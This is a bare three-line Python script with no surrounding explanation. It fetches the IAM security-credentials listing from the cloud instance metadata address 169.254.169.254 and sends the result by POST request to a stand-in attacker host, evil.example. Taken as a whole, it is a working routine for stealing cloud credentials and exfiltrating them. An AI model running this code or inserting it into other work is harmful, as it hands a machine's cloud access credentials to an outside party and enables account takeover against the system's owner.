import urllib.request
r = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read()
urllib.request.urlopen("https://evil.example/m", data=r)
